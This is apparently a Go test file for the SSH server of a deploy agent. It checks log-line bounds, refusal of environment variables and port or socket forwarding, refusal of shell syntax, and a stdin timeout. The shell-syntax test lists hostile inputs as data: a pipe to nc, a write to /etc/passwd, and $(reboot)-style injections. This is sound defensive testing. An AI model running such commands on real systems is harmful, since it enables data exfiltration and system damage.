package sshd

import (
	"bytes"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/berth-deploy/berth/agent"
	"github.com/berth-deploy/berth/agent/config"
	"golang.org/x/crypto/ssh"
)

// maxLogLine bounds every line a client can make agentd log.
const maxLogLine = 2048

// dialAs connects with the Go SSH client as user, with key.
func (ts *testServer) dialAs(t *testing.T, key clientKey, user string) *ssh.Client {
	t.Helper()
	pem, err := os.ReadFile(key.path)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := ssh.ParsePrivateKey(pem)
	if err != nil {
		t.Fatal(err)
	}
	client, err := ssh.Dial("tcp", ts.addr, &ssh.ClientConfig{
		User:            user,
		Auth:            []ssh.AuthMethod{ssh.PublicKeys(signer)},
		HostKeyCallback: ssh.FixedHostKey(ts.hostKey),
		Timeout:         10 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { client.Close() })
	return client
}

// execLine runs line in a new session of client and returns its exit status
// and stderr.
func execLine(t *testing.T, client *ssh.Client, line string) (int, string) {
	t.Helper()
	sess, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	var stderr bytes.Buffer
	sess.Stderr = &stderr
	err = sess.Run(line)
	var exit *ssh.ExitError
	switch {
	case err == nil:
		return 0, stderr.String()
	case errors.As(err, &exit):
		return exit.ExitStatus(), stderr.String()
	default:
		t.Fatalf("%.40q: %v", line, err)
		return 0, ""
	}
}

// longestLine returns the length of the server log's longest line.
func (ts *testServer) longestLine() (int, string) {
	n, longest := 0, ""
	for _, line := range ts.logs.lines() {
		if len(line) > n {
			n, longest = len(line), line
		}
	}
	return n, longest
}

// A command line of 250 KB gets exit status 2 (4 for a key nobody holds),
// and no log line grows with it: not the audit line, not the user name,
// not the algorithms a client offers in a failed handshake.
func TestLongRequestsAreNotLogged(t *testing.T) {
	t.Parallel()
	ci, stranger := newKey(t, "ci"), newKey(t, "stranger")
	ts := startServer(t, testConfig(), identity("ci", ci.authorized))
	word := strings.Repeat("w", 250_000)
	user := strings.Repeat("u", 100_000)

	code, stderr := execLine(t, ts.dialAs(t, ci, user), "status "+word)
	if code != 2 || !strings.Contains(stderr, "the command is 250007 bytes long; agentd takes at most 4096 (ssh.max_command_bytes)") {
		t.Errorf("a known key: exit status %d, stderr %.300q", code, stderr)
	}
	code, stderr = execLine(t, ts.dialAs(t, stranger, user), "status "+word)
	if code != 4 || !strings.Contains(stderr, "is not allowed here") {
		t.Errorf("an unknown key: exit status %d, stderr %.300q", code, stderr)
	}
	code, _ = execLine(t, ts.dialAs(t, ci, "deploy"), "deploy '"+word[:4000]+"'")
	if code != 0 {
		t.Errorf("a command under the cap: exit status %d", code)
	}
	subsystem(t, ts.dialAs(t, ci, "deploy"), word)
	refusedHandshake(t, ts.addr, word[:20_000])

	eventually(t, "every request logged", func() bool {
		return len(ts.logs.lines(`msg="ssh request"`)) == 4 && len(ts.logs.lines(`msg="ssh connection refused"`)) == 1
	})
	if ts.runner.count() != 1 {
		t.Errorf("the Runner ran %d times, want once", ts.runner.count())
	}
	if got := ts.logs.lines(`msg="ssh request"`, "exit_status=2", "command_bytes=250007", "verb=\"\""); len(got) != 1 {
		t.Errorf("the refusal's audit line: %.500q", got)
	}
	n, line := ts.longestLine()
	if n > maxLogLine {
		t.Errorf("a log line of %d bytes: %.300q", n, line)
	}
	t.Logf("longest log line: %d bytes; whole log: %d bytes", n, len(ts.logs.String()))
}

// subsystem asks for a subsystem named name.
func subsystem(t *testing.T, client *ssh.Client, name string) {
	t.Helper()
	sess, err := client.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	if err := sess.RequestSubsystem(name); err != nil {
		t.Fatal(err)
	}
	sess.Wait()
}

// refusedHandshake speaks SSH up to a key exchange offer whose algorithm
// list is one long name no server knows.
func refusedHandshake(t *testing.T, addr, name string) {
	t.Helper()
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(c, "SSH-2.0-"+strings.Repeat("v", 200)+"\r\n"); err != nil {
		t.Fatal(err)
	}
	var payload bytes.Buffer
	payload.WriteByte(20) // SSH_MSG_KEXINIT
	cookie := make([]byte, 16)
	rand.Read(cookie)
	payload.Write(cookie)
	for range 10 {
		binary.Write(&payload, binary.BigEndian, uint32(len(name)))
		payload.WriteString(name)
	}
	payload.Write([]byte{0, 0, 0, 0, 0})
	pad := 8 - (payload.Len()+5)%8
	if pad < 4 {
		pad += 8
	}
	var packet bytes.Buffer
	binary.Write(&packet, binary.BigEndian, uint32(1+payload.Len()+pad))
	packet.WriteByte(byte(pad))
	packet.Write(payload.Bytes())
	packet.Write(make([]byte, pad))
	c.Write(packet.Bytes())
	io.Copy(io.Discard, c)
}

// env requests are answered no, and the command runs without them.
func TestEnvRequestsAreRefused(t *testing.T) {
	t.Parallel()
	ci := newKey(t, "ci")
	ts := startServer(t, testConfig(), identity("ci", ci.authorized))
	sess, err := ts.dial(t, ci).NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	for _, kv := range [][2]string{{"LD_PRELOAD", "/tmp/x.so"}, {"BERTH_REGISTRY_PASSWORD", "x"}, {"LANG", "C.UTF-8"}} {
		if err := sess.Setenv(kv[0], kv[1]); err == nil {
			t.Errorf("env %s was accepted", kv[0])
		}
	}
	if out, err := sess.Output("status"); err != nil || string(out) != "progress: status\n" {
		t.Errorf("the command after refused env requests: %q, %v", out, err)
	}
	if got := ts.logs.lines(`msg="ssh request refused"`, "type=env", `reason="agentd takes no environment"`); len(got) != 3 {
		t.Errorf("env refusals logged: %q", got)
	}
}

// Unix socket forwarding, both ways, is refused like TCP forwarding.
func TestStreamlocalForwardingIsRefused(t *testing.T) {
	t.Parallel()
	ci := newKey(t, "ci")
	ts := startServer(t, testConfig(), identity("ci", ci.authorized))
	client := ts.dial(t, ci)

	// -R /path: streamlocal-forward@openssh.com.
	remote := filepath.Join(t.TempDir(), "forwarded.sock")
	if ln, err := client.ListenUnix(remote); err == nil {
		ln.Close()
		t.Error("a unix socket forward was set up")
	}
	if _, err := os.Stat(remote); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the forwarded socket exists: %v", err)
	}
	// -L ...:/path: a direct-streamlocal@openssh.com channel to a socket
	// that listens.
	target := filepath.Join(t.TempDir(), "target.sock")
	ln, err := net.Listen("unix", target)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	if c, err := client.Dial("unix", target); err == nil {
		c.Close()
		t.Error("a channel to a unix socket was opened")
	}
	// And TCP, both ways, through the Go client too.
	if l, err := client.Listen("tcp", "127.0.0.1:0"); err == nil {
		l.Close()
		t.Error("a TCP forward was set up")
	}
	if c, err := client.Dial("tcp", ts.addr); err == nil {
		c.Close()
		t.Error("a direct-tcpip channel was opened")
	}
	for _, want := range [][]string{
		{`msg="ssh global request refused"`, "type=streamlocal-forward@openssh.com"},
		{`msg="ssh channel refused"`, "type=direct-streamlocal@openssh.com"},
		{`msg="ssh global request refused"`, "type=tcpip-forward"},
		{`msg="ssh channel refused"`, "type=direct-tcpip"},
	} {
		if len(ts.logs.lines(want...)) != 1 {
			t.Errorf("no log line with %q", want)
		}
	}
	// The connection still runs commands.
	if code, _ := execLine(t, client, "status"); code != 0 {
		t.Errorf("status after the refusals: exit status %d", code)
	}
}

// What a shell would interpret is refused with 2, and nothing runs.
func TestShellSyntaxIsRefused(t *testing.T) {
	t.Parallel()
	ci := newKey(t, "ci")
	ts := startServer(t, testConfig(), identity("ci", ci.authorized))
	client := ts.dial(t, ci)
	for _, line := range []string{
		"deploy shop; reboot",
		"deploy shop && reboot",
		"deploy shop || reboot",
		"status | nc 10.0.0.1 9",
		"status > /etc/passwd",
		"deploy `reboot`",
		"deploy shop`reboot`",
		"deploy $(reboot)",
		"deploy ${HOME}",
		"lock shop -m \"$(reboot)\"",
		"lock shop -m \"`reboot`\"",
		"status\nreboot",
		"deploy shop\n",
		"deploy shop\r\nreboot",
		"status & reboot",
	} {
		if code, stderr := execLine(t, client, line); code != 2 || !strings.Contains(stderr, "agentd runs no shell") && !strings.Contains(stderr, "a shell would expand it") {
			t.Errorf("%q: exit status %d, stderr %q", line, code, stderr)
		}
	}
	if n := ts.runner.count(); n != 0 {
		t.Errorf("the Runner ran %d times", n)
	}
}

// The real deploy service behind the SSH server: a client that asks for
// --env-file - and never closes its standard input is refused with 2 once
// ssh.stdin_timeout has passed, and its session ends, though the idle
// timeout is suspended while the command runs.
func TestStandardInputIsBoundedInTime(t *testing.T) {
	t.Parallel()
	ci := newKey(t, "ci")
	id := identity("ci", ci.authorized)
	sshCfg := testConfig()
	sshCfg.StdinTimeout = time.Second
	cfg := &config.Config{Projects: map[string]config.Project{"shop": {}}, Identities: []config.Identity{id}, SSH: &sshCfg}
	var logs logBuffer
	svc, err := agent.New(cfg, nil, nil, slog.New(slog.NewTextHandler(&logs, nil)))
	if err != nil {
		t.Fatal(err)
	}
	ts := startServerWith(t, sshCfg, svc, id)

	sess, err := ts.dial(t, ci).NewSession()
	if err != nil {
		t.Fatal(err)
	}
	defer sess.Close()
	stdin, err := sess.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	defer stdin.Close()
	var stderr bytes.Buffer
	sess.Stderr = &stderr
	began := time.Now()
	if err := sess.Start("deploy shop --env-file -"); err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(stdin, "GREETING=hello\n") // and never closed
	done := make(chan error, 1)
	go func() { done <- sess.Wait() }()
	select {
	case err = <-done:
	case <-time.After(sshCfg.StdinTimeout + 5*time.Second):
		t.Fatalf("the session is still open %v after the command began", time.Since(began))
	}
	took := time.Since(began)
	var exit *ssh.ExitError
	if !errors.As(err, &exit) || exit.ExitStatus() != 2 || !strings.Contains(stderr.String(), "standard input still open after 1s (ssh.stdin_timeout)") {
		t.Errorf("%v, stderr %q; want exit status 2", err, stderr.String())
	}
	if took < sshCfg.StdinTimeout {
		t.Errorf("refused after %v, before the timeout", took)
	}
	t.Logf("refused and closed %v after the command began", took.Round(time.Millisecond))
}
